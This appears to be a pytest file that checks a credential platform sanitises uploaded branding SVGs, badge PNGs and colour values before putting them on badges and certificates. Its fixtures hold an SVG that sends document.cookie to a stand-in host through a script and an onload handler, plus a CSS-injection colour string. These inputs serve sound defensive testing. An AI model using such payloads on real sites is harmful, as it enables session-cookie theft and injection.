"""A provider's branding: its uploaded badge artwork (sanitised) is what its credentials cite and
what the learner's badge downloads are, and its logo and colour are on its certificates."""

from __future__ import annotations

import io
import json

import pikepdf
from PIL import Image

from microcred.db.session import transaction
from microcred.db.tables import Definition, Provider
from microcred.services import definitions
from microcred.vc import baking
from microcred.vc.pdf import extract_pdf
from tests.platform.conftest import DEFINITION, csrf_from, issue_to, make_org, signin
from tests.platform.test_wallet import _item_ids, _signup

LOGO = b"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 40" onload="alert(1)">
<script>fetch('https://evil.example/?c=' + document.cookie)</script>
<rect width="120" height="40" fill="#0b6e4f"/><image href="https://evil.example/track.png"/>
<text x="10" y="26" fill="#fff">ACME</text></svg>"""


def _png(colour: tuple[int, int, int]) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (96, 96), colour).save(out, format="PNG")
    return out.getvalue()


def _draft(platform, org) -> int:
    with transaction(platform.sessions) as session:
        provider = session.get(Provider, org.provider_id)
        return definitions.create(platform, session, provider, DEFINITION).id


def test_uploaded_artwork_is_sanitised_and_appears_on_badges_and_certificates(platform, wired):
    org = make_org(platform, "acme")
    token = signin(wired, org.owner_email)

    # the logo: a script and an outside reference inside it are removed before it is kept
    saved = wired.post(
        "/branding",
        data={"csrf_token": token, "colour": "#0B6E4F"},
        files={"logo": ("logo.svg", LOGO, "image/svg+xml")},
    )
    assert saved.status_code == 200, saved.text
    with transaction(platform.sessions, readonly=True) as session:
        provider = session.get(Provider, org.provider_id)
        logo_digest, colour = provider.logo, provider.brand_colour
    assert colour == "#0b6e4f"
    served = wired.get(f"/artwork/{logo_digest}")
    assert served.headers["content-type"] == "image/svg+xml"
    assert "default-src 'none'" in served.headers["content-security-policy"]
    for gone in (b"script", b"onload", b"evil.example", b"cookie"):
        assert gone not in served.content, gone
    assert b"ACME" in served.content
    assert b"#0b6e4f" in served.content

    # the badge artwork of a draft, then published and issued
    definition_id = _draft(platform, org)
    uploaded = wired.post(
        f"/definitions/{definition_id}/image",
        data={"csrf_token": token},
        files={"image": ("badge.png", _png((200, 30, 60)) + b"<script>x</script>", "image/png")},
        follow_redirects=False,
    )
    assert uploaded.status_code == 303
    nothing = wired.post(  # the form sent without a file changes nothing
        f"/definitions/{definition_id}/image", data={"csrf_token": token}, follow_redirects=True
    )
    assert "choose a PNG or SVG file" in nothing.text
    publish = wired.post(f"/definitions/{definition_id}/publish", data={"csrf_token": token})
    assert publish.status_code == 200, publish.text
    with transaction(platform.sessions, readonly=True) as session:
        row = session.get(Definition, definition_id)
        art_digest = row.data["image"]
        session.expunge(row)
    credential = issue_to(platform, org, row, "niamh@example.org", "Niamh O'Brien")
    image = json.loads(credential.document)["credentialSubject"]["achievement"]["image"]
    assert image == {
        "id": f"http://testserver/artwork/{art_digest}",
        "type": "Image",
        "caption": "Welding Safety",
    }
    refused = wired.post(  # a published version keeps the artwork its credentials cite
        f"/definitions/{definition_id}/image",
        data={"csrf_token": token},
        files={"image": ("other.png", _png((1, 2, 3)), "image/png")},
        follow_redirects=True,
    )
    assert "make a new version" in refused.text

    _signup(wired, platform)
    [item_id] = _item_ids(wired)
    badge = wired.get(f"/wallet/items/{item_id}/download.png").content
    assert baking.extract(badge) == credential.document  # the artwork, baked
    with Image.open(io.BytesIO(badge)) as pixels:
        assert pixels.size == (96, 96)
        assert pixels.convert("RGB").getpixel((5, 5)) == (200, 30, 60)
    svg_badge = wired.get(f"/wallet/items/{item_id}/download.svg").content
    assert baking.extract(svg_badge) == credential.document
    assert b"data:image/png;base64," in svg_badge
    assert b"<script" not in svg_badge

    pdf = wired.get(f"/wallet/items/{item_id}/download.pdf").content
    assert extract_pdf(pdf) == credential.document
    with pikepdf.open(io.BytesIO(pdf)) as document:
        alts = [
            str(node.get("/Alt"))
            for node in _structure(document.Root.StructTreeRoot)
            if node.get("/S") == "/Figure"
        ]
        content = b"".join(page.Contents.read_bytes() for page in document.pages)
    assert "Acme Institute logo" in alts
    assert any(alt.startswith("QR code") for alt in alts)
    # the brand colour paints the certificate's rules (as RGB fractions in the content stream)
    assert b"0.043137 0.431373 0.309804" in content or b".043 .431 .31" in content


def test_bad_branding_is_refused_beside_its_field_and_keeps_what_was_typed(platform, client):
    org = make_org(platform, "acme")
    token = signin(client, org.owner_email)
    page = client.post("/branding", data={"csrf_token": token, "colour": "red;background:url(x)"})
    assert page.status_code == 422
    assert 'id="colour-error"' in page.text
    assert "#rrggbb" in page.text
    assert 'value="red;background:url(x)"' in page.text
    not_an_image = client.post(
        "/branding",
        data={"csrf_token": token, "colour": ""},
        files={"logo": ("logo.gif", b"GIF89a......", "image/gif")},
    )
    assert not_an_image.status_code == 422
    assert 'id="logo-error"' in not_an_image.text
    assert "PNG or an SVG" in not_an_image.text
    with transaction(platform.sessions, readonly=True) as session:
        provider = session.get(Provider, org.provider_id)
        assert provider.logo is None
        assert provider.brand_colour is None
    issuer = signin(client, "issuer@acme.example")
    forbidden = client.post("/branding", data={"csrf_token": issuer, "colour": "#123456"})
    assert forbidden.status_code == 403
    assert csrf_from(client.get("/branding").text)  # issuers may look


def _structure(node):  # type: ignore[no-untyped-def]
    """Every structure element under ``node``."""
    kids = node.get("/K")
    if kids is None:
        return
    for kid in kids if isinstance(kids, pikepdf.Array) else [kids]:
        if isinstance(kid, pikepdf.Dictionary) and "/S" in kid:
            yield kid
            yield from _structure(kid)
